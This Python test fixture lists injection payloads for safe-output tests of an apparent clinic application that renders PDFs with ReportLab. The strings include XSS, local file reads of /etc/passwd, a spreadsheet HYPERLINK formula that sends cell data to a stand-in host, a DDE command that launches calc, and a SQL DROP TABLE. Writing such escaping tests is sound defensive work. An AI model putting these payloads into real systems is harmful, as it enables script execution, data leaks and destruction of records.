"""Markup, script and formula payloads for the safe-output tests (IO-1, IO-3, IO-4)."""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "<b>bold</b><i>it</i>",  # ReportLab paragraph markup
    '<font color="red">red</font>',
    '<img src="http://127.0.0.1:9/x"/>',  # would make ReportLab fetch a URL
    '<link rel="attachment" href="file:///etc/passwd">',
    "@import url(file:///etc/hosts)",
    "{{ 7|add:7 }} {% now 'Y' %}",  # template syntax must stay text
    "&lt;script&gt;already escaped",
    '=HYPERLINK("http://x/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "'; DROP TABLE clinic_client;--",
]
